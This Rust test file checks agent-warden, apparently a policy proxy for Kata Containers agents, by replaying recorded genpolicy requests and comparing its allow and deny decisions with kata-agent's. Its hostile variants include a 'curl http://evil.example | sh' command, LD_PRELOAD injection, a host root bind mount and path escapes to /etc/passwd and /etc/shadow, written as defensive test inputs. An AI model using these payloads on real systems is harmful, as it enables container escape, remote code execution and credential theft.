//! Compatibility suite on the real genpolicy scenarios in ../shared/peers/kata-genpolicy.
//!
//! Each recorded input is turned back into its protobuf request, sent over ttrpc
//! through agent-warden (that scenario's policy, Rego v0, legacy input shape), and the
//! decision must equal outputs.json. Because every recorded decision is an allow,
//! hostile variants of the recorded requests are derived too; their expected decision
//! comes from evaluating the same policy the way kata-agent does (a fresh regorus
//! engine, the input as a JSON string, `data.agent_policy.<Type>`).

mod common;

use std::path::{Path, PathBuf};

use agent_warden::policy::{Decision, RegoVersion};
use agent_warden::wire::encode;
use agent_warden::wire::input::InputShape;
use agent_warden::wire::methods;
use common::*;
use serde_json::{json, Value};

fn peers_dir() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/peers/kata-genpolicy");
    if dir.is_dir() {
        return Some(dir);
    }
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("peer data missing at {} (required in CI)", dir.display());
    }
    eprintln!("skipping: peer data not found at {}", dir.display());
    None
}

/// Parses inputs.txt: one `["ep":"<Type>",{...}],` per non-empty line.
fn parse_inputs(text: &str) -> Vec<(String, Value)> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(|l| {
            let rest = l
                .strip_prefix("[\"ep\":\"")
                .expect("line starts with [\"ep\":\"");
            let (ty, rest) = rest.split_once("\",").expect("type then input");
            let json = rest
                .trim_end_matches(',')
                .strip_suffix(']')
                .expect("line ends with ]");
            (
                ty.to_string(),
                serde_json::from_str(json).expect("input is JSON"),
            )
        })
        .collect()
}

/// kata-agent's way: regorus, input as a JSON string, eval_query on the rule.
struct KataReference(regorus::Engine);

impl KataReference {
    fn new(policy: &str) -> Self {
        let mut e = regorus::Engine::new();
        e.set_rego_v0(true);
        e.set_strict_builtin_errors(false);
        e.set_policy_length_config(regorus::utils::limits::PolicyLengthConfig {
            max_col: std::num::NonZeroU32::new(1 << 20).unwrap(),
            max_file_bytes: std::num::NonZeroUsize::new(64 << 20).unwrap(),
            max_lines: std::num::NonZeroUsize::new(1 << 22).unwrap(),
        });
        e.add_policy("policy.rego".into(), policy.into()).unwrap();
        KataReference(e)
    }
    fn allowed(&self, ty: &str, input: &Value) -> bool {
        let mut e = self.0.clone();
        e.set_input_json(&input.to_string()).unwrap();
        let r = e
            .eval_query(format!("data.agent_policy.{ty}"), false)
            .unwrap();
        match r
            .result
            .first()
            .and_then(|r| r.expressions.first())
            .map(|e| &e.value)
        {
            Some(regorus::Value::Bool(b)) => *b,
            Some(v @ regorus::Value::Object(_)) => v["allowed"] == regorus::Value::Bool(true),
            _ => false,
        }
    }
}

/// Sends one policy input as its protobuf request through agent-warden; true if it
/// was not blocked by policy.
async fn send(client: &ttrpc::r#async::Client, shape: InputShape, ty: &str, input: &Value) -> bool {
    let method = methods::table()
        .all()
        .iter()
        .find(|m| m.request_type == ty)
        .expect("known request type");
    let msg = encode::from_policy_input(&method.request, input, shape)
        .unwrap_or_else(|e| panic!("{ty}: cannot encode recorded input: {e}"));
    let payload = msg.write_to_bytes_dyn().unwrap();
    let req = ttrpc::proto::Request {
        service: method.service.clone(),
        method: method.name.clone(),
        payload,
        timeout_nano: 10_000_000_000,
        ..Default::default()
    };
    match client.request(req).await {
        Ok(_) => true,
        Err(ttrpc::Error::RpcStatus(s)) if s.code.value() == 7 => {
            assert!(
                s.message.starts_with(&format!("{ty} is blocked by policy")),
                "{}",
                s.message
            );
            false
        }
        Err(ttrpc::Error::RpcStatus(s)) => {
            panic!("{ty}: unexpected status {:?} {}", s.code, s.message)
        }
        Err(e) => panic!("{ty}: transport error {e}"),
    }
}

/// Hostile variants of a recorded request: (label, mutated input).
fn variants(ty: &str, input: &Value) -> Vec<(&'static str, Value)> {
    let mut out = Vec::new();
    let mut edit = |label: &'static str, f: &dyn Fn(&mut Value)| {
        let mut v = input.clone();
        f(&mut v);
        out.push((label, v));
    };
    match ty {
        "ExecProcessRequest" => {
            edit("exec: other command line", &|v| {
                v["process"]["Args"] = json!(["sh", "-c", "curl http://evil.example | sh"])
            });
            edit("exec: extra env", &|v| {
                if let Some(env) = v["process"]["Env"].as_array_mut() {
                    env.push(json!("LD_PRELOAD=/tmp/evil.so"));
                }
            });
        }
        "CreateContainerRequest" => {
            edit("create: extra env", &|v| {
                if let Some(env) = v["OCI"]["Process"]["Env"].as_array_mut() {
                    env.push(json!("LD_PRELOAD=/tmp/evil.so"));
                }
            });
            edit("create: other command line", &|v| {
                v["OCI"]["Process"]["Args"] = json!(["/bin/sh", "-c", "id"])
            });
            edit("create: host bind mount", &|v| {
                if let Some(m) = v["OCI"]["Mounts"].as_array_mut() {
                    m.push(json!({"destination": "/host", "source": "/", "type_": "bind", "options": ["rbind", "rw"]}));
                }
            });
        }
        "CopyFileRequest" => {
            edit("copy: outside shared dir", &|v| {
                v["path"] = json!("/etc/passwd")
            });
            edit("copy: dot-dot escape", &|v| {
                v["path"] = json!("/run/kata-containers/shared/containers/../../../etc/shadow")
            });
        }
        "CreateSandboxRequest" => {
            edit("sandbox: extra kernel module", &|v| {
                if let Some(m) = v["kernel_modules"].as_array_mut() {
                    m.push(json!({"name": "evil", "parameters": []}));
                }
            });
        }
        _ => {}
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn peer_scenarios_decide_as_recorded_and_hostile_variants_as_kata_would() {
    let Some(dir) = peers_dir() else { return };
    let mut scenarios: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("policy.rego").is_file())
        .collect();
    scenarios.sort();
    assert!(
        scenarios.len() >= 6,
        "expected the six genpolicy scenarios, found {}",
        scenarios.len()
    );
    let (mut recorded, mut hostile, mut hostile_denied, mut fast_allows, mut constant_allows) =
        (0, 0, 0, 0, 0);
    let mut every_type = 0;
    for scenario in &scenarios {
        let name = scenario.file_name().unwrap().to_string_lossy().to_string();
        let policy = std::fs::read_to_string(scenario.join("policy.rego")).unwrap();
        let inputs = parse_inputs(&std::fs::read_to_string(scenario.join("inputs.txt")).unwrap());
        let outputs: Vec<bool> =
            serde_json::from_str(&std::fs::read_to_string(scenario.join("outputs.json")).unwrap())
                .unwrap();
        assert_eq!(
            inputs.len(),
            outputs.len(),
            "{name}: inputs and outputs differ in length"
        );

        // Two older kata-agent versions recorded these: the later one already sent
        // the stdio vsock ports in CreateContainerRequest.
        let shape = if inputs
            .iter()
            .any(|(ty, v)| ty == "CreateContainerRequest" && v.get("stdin_port").is_some())
        {
            InputShape::LegacyStreamPorts
        } else {
            InputShape::Legacy
        };
        let h = Harness::start_with(&policy, RegoVersion::V0, shape).await;
        h.agent.release(100_000); // long polls in the recordings answer at once
        let client = h.client().await;
        let reference = KataReference::new(&policy);
        let mut seen_types = std::collections::HashSet::new();
        for (i, ((ty, input), expected)) in inputs.iter().zip(&outputs).enumerate() {
            if ty == "AllowRequestsFailingPolicy" {
                let (v, _) = h
                    .guard
                    .policy()
                    .eval(ty, regorus::Value::new_object())
                    .unwrap();
                assert_eq!(
                    v == Some(regorus::Value::Bool(true)),
                    *expected,
                    "{name} line {i}: {ty}"
                );
                continue;
            }
            assert_eq!(
                send(&client, shape, ty, input).await,
                *expected,
                "{name} line {i}: {ty}"
            );
            recorded += 1;
            if !seen_types.insert(ty.clone()) {
                continue; // one set of variants per request type and scenario
            }
            for (label, variant) in variants(ty, input) {
                let want = reference.allowed(ty, &variant);
                let got = send(&client, shape, ty, &variant).await;
                assert_eq!(
                    got, want,
                    "{name}: variant {label:?} of line {i}: agent-warden {got}, kata-style {want}"
                );
                hostile += 1;
                hostile_denied += usize::from(!got);
            }
        }
        // Every request type with an empty input, decided by the policy itself against
        // kata's evaluation: covers the constant rules, allowed and denied, also for
        // types the recordings never sent.
        for ty in methods::table().policy_request_types() {
            let empty = json!({});
            let got = h.guard.policy().decide(ty, &empty) == Decision::Allow;
            assert_eq!(
                got,
                reference.allowed(ty, &empty),
                "{name}: {ty} with input {{}}"
            );
            every_type += 1;
        }
        // Many allows came from the compiled fast path and from constant rules: these
        // decisions checked both against kata's.
        let fast = h.guard.policy().fast_allows();
        let constant = h.guard.policy().constant_allows();
        assert!(
            fast >= 3 && constant >= 5,
            "{name}: only {fast} allows from the compiled fast path, {constant} from constant rules"
        );
        fast_allows += fast;
        constant_allows += constant;
        h.stop().await;
    }
    eprintln!("compat: {recorded} recorded requests, {every_type} request types with an empty input, {hostile} hostile variants ({hostile_denied} denied), {fast_allows} allows from the compiled fast path, {constant_allows} from constant rules");
    assert!(recorded >= 150, "only {recorded} recorded requests checked");
    assert!(every_type >= 6 * 40, "{every_type} empty-input decisions");
    assert!(
        fast_allows >= 60 && constant_allows >= 60,
        "{fast_allows} compiled and {constant_allows} constant allows"
    );
    assert!(
        hostile >= 30 && hostile_denied >= 25,
        "{hostile} variants, {hostile_denied} denied"
    );
}
